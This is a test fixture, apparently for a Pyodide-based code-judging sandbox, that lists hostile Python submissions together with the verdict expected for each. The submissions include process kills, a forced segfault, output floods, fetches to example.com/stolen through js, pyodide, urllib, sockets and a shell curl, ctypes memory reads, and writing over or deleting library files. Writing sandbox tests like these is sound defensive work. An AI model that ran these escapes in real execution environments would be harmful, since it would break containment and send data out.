/** Candidates in Python that look for a way out: of the process, to the page, the network, the files. */
import { goodPython, fn } from './hostile-candidate.testing.ts'
import type { HostileCandidate } from './hostile-candidate.testing.ts'

export const escape: readonly HostileCandidate[] = [
  // ways out
  ['sys.exit', fn('sys.exit(0)', 'import sys'), 'runtime-error'],
  ['quit at the top level', `import sys\nsys.exit(0)\n${goodPython}`, 'runtime-error'],
  ['os._exit', fn('os._exit(0)', 'import os'), 'runtime-error'],
  ['os.abort', fn('os.abort()', 'import os'), 'runtime-error'],
  ['a signal to itself', fn('os.kill(os.getpid(), 9)', 'import os'), 'runtime-error'],
  ['a crash', fn('faulthandler._sigsegv()', 'import faulthandler'), 'runtime-error'],
  [
    'a code object that is none',
    fn(
      'f = lambda: 0\nf.__code__ = f.__code__.replace(co_code=bytes([100, 255] * 50), co_consts=())\nreturn f()',
    ),
    'runtime-error',
    'wrong-answer',
    'time-out',
    'memory-limit',
  ],
  ['megabytes printed', fn('for _ in range(10000): print("x" * 1000)\nreturn 1'), 'wrong-answer', 'time-out'],
  ['megabytes printed without end', fn('while True: print("x" * 100000)'), 'time-out'],
  ['the js module', fn('return js.fetch("http://example.com/stolen")', 'import js'), 'runtime-error'],
  [
    'the pyodide modules',
    fn('return pyodide.code.run_js("fetch(\'http://example.com/stolen\')")', 'import pyodide.code'),
    'runtime-error',
  ],
  [
    'the pyodide modules, unhidden',
    `import sys\nfor name in ("js", "pyodide_js", "_pyodide_core", "pyodide", "_pyodide"): sys.modules.pop(name, None)\nimport _pyodide_core, pyodide.code\n${fn('return pyodide.code.run_js("fetch(\'http://example.com/stolen\')")')}`,
    'runtime-error',
    'time-out',
  ],
  [
    'pyodide.http',
    fn('return pyodide.http.open_url("http://example.com/stolen").read()', 'import pyodide.http'),
    'runtime-error',
  ],
  [
    'JavaScript through a class that is left',
    fn(
      'for c in object.__subclasses__():\n    if "Js" in c.__name__: return c.__init__.__globals__["run_js"]("fetch(\'http://example.com/stolen\')")\nreturn 1',
    ),
    'runtime-error',
    'wrong-answer',
  ],
  [
    'urllib',
    fn('return urllib.request.urlopen("http://example.com/stolen").read()', 'import urllib.request'),
    'runtime-error',
    'time-out',
  ],
  [
    'a socket',
    fn('s = socket.socket(); s.connect(("example.com", 80)); return 1', 'import socket'),
    'runtime-error',
  ],
  [
    'a name that is looked up',
    fn('return socket.gethostbyname("example.com")', 'import socket'),
    'runtime-error',
  ],
  [
    'a process',
    fn('return subprocess.run(["ls"], capture_output=True).stdout', 'import subprocess'),
    'runtime-error',
  ],
  [
    'a shell',
    fn('return os.system("curl http://example.com/stolen")', 'import os'),
    'wrong-answer',
    'runtime-error',
  ],
  ['ctypes', fn('return ctypes.string_at(0, 100)', 'import ctypes'), 'runtime-error'],
  [
    'ctypes, unhidden',
    `import sys\nfor name in ("ctypes", "_ctypes"): sys.modules.pop(name, None)\nimport ctypes\n${fn('return ctypes.CDLL(None).emscripten_run_script(b"fetch(1)")')}`,
    'runtime-error',
  ],
  [
    'a file that poisons the library',
    fn(
      'for path in ("/lib/python314.zip", "/lib/python3.14/site-packages/json.py", "/tmp/x"):\n    try: open(path, "w").write("x")\n    except OSError as e: reason = str(e)\nreturn reason',
    ),
    'wrong-answer',
  ],
  [
    'files deleted',
    fn(
      'for f in ("/lib/python314.zip", "/home/pyodide"):\n    try: os.remove(f)\n    except OSError: pass\n    try: os.rename(f, "/tmp/gone")\n    except OSError: pass\nos.chdir("/lib")\nreturn 1',
      'import os',
    ),
    'wrong-answer',
  ],
  ['the keyboard', fn('return open("/dev/tty").read()'), 'runtime-error', 'wrong-answer'],
]
